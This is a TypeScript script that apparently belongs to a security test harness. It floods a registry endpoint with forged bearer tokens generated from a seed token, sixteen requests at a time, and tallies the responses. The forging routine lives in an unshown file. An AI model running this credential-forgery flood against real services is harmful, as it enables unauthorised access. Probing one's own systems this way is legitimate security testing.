/**
 * Runs in a client Pod as it stands, beside `tokens.ts`, by `node flood.ts URL TOKEN-FILE COUNT`: asks the registry for a connection with so many
 * tokens made after the one in the file, a few at a time, and prints how often each answer came, as JSON.
 */
import { readFileSync } from 'node:fs';
import { Agent, request } from 'node:https';
import { forgedTokens } from './tokens.ts';

const [, , url = '', file = '', count = ''] = process.argv;
const ca = readFileSync('/ca/ca.pem');
const AT_A_TIME = 16;
const agent = new Agent({ keepAlive: true, maxSockets: AT_A_TIME, ca });

function answerTo(token: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const call = request(
      url,
      { method: 'POST', agent, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' } },
      (response) => {
        let body = '';
        response.setEncoding('utf8');
        response.on('data', (text: string) => {
          body += text;
        });
        response.once('end', () => resolve(`${response.statusCode} ${JSON.parse(body).error?.code}`));
        response.once('error', reject);
      },
    );
    call.once('error', reject);
    call.end('{}');
  });
}

const waiting = forgedTokens(readFileSync(file, 'utf8').trim(), Number(count));
const answers: Record<string, number> = {};

async function work(): Promise<void> {
  for (let token = waiting.pop(); token !== undefined; token = waiting.pop()) {
    const answer = await answerTo(token);
    answers[answer] = (answers[answer] ?? 0) + 1;
  }
}

await Promise.all(Array.from({ length: AT_A_TIME }, work));
agent.destroy();
process.stdout.write(JSON.stringify(answers));
